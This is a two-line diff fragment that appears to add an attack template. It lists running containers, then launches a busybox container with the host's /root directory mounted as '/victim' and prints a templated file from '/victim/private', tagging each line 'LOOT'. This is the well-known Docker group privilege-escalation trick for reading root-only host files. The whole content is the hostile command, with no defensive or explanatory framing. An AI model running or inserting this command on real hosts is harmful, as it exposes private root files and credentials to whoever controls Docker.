@@ -1,0 +1,2 @@
+docker ps
+docker run --rm -v /root:/victim busybox sed 's/^/LOOT /' /victim/private/{{ file }}
